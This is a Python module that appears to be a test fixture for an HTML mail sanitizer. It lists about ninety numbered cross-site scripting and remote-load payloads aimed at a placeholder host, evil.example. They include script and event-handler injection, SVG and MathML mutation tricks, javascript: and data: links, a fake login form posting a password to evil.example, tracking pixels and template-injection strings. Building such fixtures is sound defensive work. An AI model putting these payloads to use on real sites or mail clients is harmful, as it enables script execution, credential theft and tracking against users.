"""What a hostile mail may hold: what must never run, and addresses that must never be asked for anything.

Each has its number in them, so that a finding names it also where a document holds many.
"""

from typing import Final

_ENTITIES = "".join(f"&#{ord(character)};" for character in "javascript:xss()")

# `xss()` is what must never run, `evil.example` what must never be asked.
_UNNUMBERED = (
    # Scripts
    "<script>xss()</script>",
    "<ScRiPt>xss()</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    "<script/x>xss()</script>",
    "<<script>xss();//<</script>",
    "<scr\x00ipt>xss()</script>",
    "<script\n>xss()</script\n>",
    "<!--><script>xss()</script>-->",
    "<![CDATA[<script>xss()</script>]]>",
    "</title></textarea></style></noscript><script>xss()</script>",
    "\"><script>xss()</script>",
    "'\"--></style></script><script>xss()</script>",
    # Events
    "<img src=x onerror=xss()>",
    "<img/src=x/onerror=xss()>",
    "<img src=x oneonerrorrror=xss()>",
    '<img src="x` `<script>xss()</script>"` `>',
    "<body onload=xss() onpageshow=xss() onfocus=xss()>",
    "<input autofocus onfocus=xss()>",
    "<select autofocus onfocus=xss()></select>",
    "<textarea autofocus onfocus=xss()></textarea>",
    "<button autofocus onfocus=xss() onblur=xss()>x</button>",
    "<details open ontoggle=xss()><summary>x</summary></details>",
    "<video src=x onerror=xss() onloadstart=xss()></video>",
    "<video><source onerror=xss()></video>",
    "<audio src=x onerror=xss()></audio>",
    "<marquee onstart=xss()>x</marquee>",
    "<p onpointerover=xss() onmouseover=xss() onclick=xss()>x</p>",
    "<div style='position:fixed;inset:0' onmouseover=xss() onclick=xss()></div>",
    "<xss id=x tabindex=1 autofocus onfocus=xss()></xss>",
    "<div style='animation:x' onanimationstart=xss()>x</div>",
    # SVG, MathML and markup that changes its meaning when it is parsed twice
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:xss()"><text x=20 y=20>x</text></a></svg>',
    '<svg><use href="https://evil.example/x.svg#x"></use></svg>',
    '<svg><image href="https://evil.example/x.png"></image></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss()&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>",
    '<noscript><p title="</noscript><img src=x onerror=xss()>">',
    "<template shadowrootmode=open><img src=x onerror=xss()></template>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=xss()>\">",
    # Frames and objects
    '<iframe src="javascript:parent.xss()"></iframe>',
    '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<object data="javascript:xss()"></object>',
    '<object data="https://evil.example/x"></object>',
    '<embed src="https://evil.example/x">',
    "<portal src=https://evil.example/></portal><fencedframe></fencedframe>",
    # Links and forms
    '<a href="javascript:xss()">Klick</a>',
    '<a href=" java\nscript:xss()">Klick</a>',
    '<a href="jav&#x09;ascript:xss()">Klick</a>',
    f'<a href="{_ENTITIES}">Klick</a>',
    '<a href="data:text/html,<script>xss()</script>">Klick</a>',
    '<a href="vbscript:xss()">Klick</a>',
    '<a href="//evil.example/" ping="https://evil.example/ping" onclick="xss()">Klick</a>',
    '<form action="javascript:xss()"><button>x</button><input type=submit></form>',
    '<form action="https://evil.example/login"><input type=password name=p autofocus></form>',
    '<button formaction="javascript:xss()">x</button>',
    '<base href="https://evil.example/"><img src="x.png"><a href="x">Klick</a>',
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
    # What is loaded by itself
    '<img src="https://evil.example/pixel.gif?id=42" width=1 height=1 alt="Das Bild">',
    '<img src="//evil.example/pixel.gif">',
    '<img srcset="https://evil.example/1x.png 1x, https://evil.example/2x.png 2x">',
    '<picture><source srcset="https://evil.example/p.webp"><img src=x></picture>',
    '<video poster="https://evil.example/poster.png"></video>',
    '<body background="https://evil.example/bg.png">',
    '<table background="https://evil.example/t.png"><tr><td background="https://evil.example/d.png">x</table>',
    '<div style="background:url(https://evil.example/bg.png)">x</div>',
    '<div style="background:url(javascript:xss())">x</div>',
    '<div style="width:expression(xss())">x</div>',
    '<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/star.png)}</style>',
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/p>",
    "<link rel=preconnect href=https://evil.example/>",
    # Text that other parts of a page might take for more
    "javascript:xss()",
    "{{constructor.constructor('xss()')()}}",
    "${xss()}`-xss()-`",
    "+ADw-script+AD4-xss()+ADw-/script+AD4-",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "%3Cscript%3Exss()%3C/script%3E \\u003cscript\\u003exss()\\u003c/script\\u003e",
    "\uff1cscript\uff1exss()\uff1c/script\uff1e",
    "303-1234567-1234567<img src=x onerror=xss()>303-1234567-1234567",
    '303-1234567-1234567" onmouseover="xss()" x="',
)  # fmt: skip


def _numbered(number: int, payload: str) -> str:
    written = "".join(f"&#{ord(digit)};" for digit in str(number))
    return (
        payload.replace("xss()", f"xss({number})")
        .replace("&#40;&#41;", f"&#40;{written}&#41;")
        .replace("evil.example", f"evil{number}.example")
    )


PAYLOADS: Final = tuple(_numbered(number, payload) for number, payload in enumerate(_UNNUMBERED))
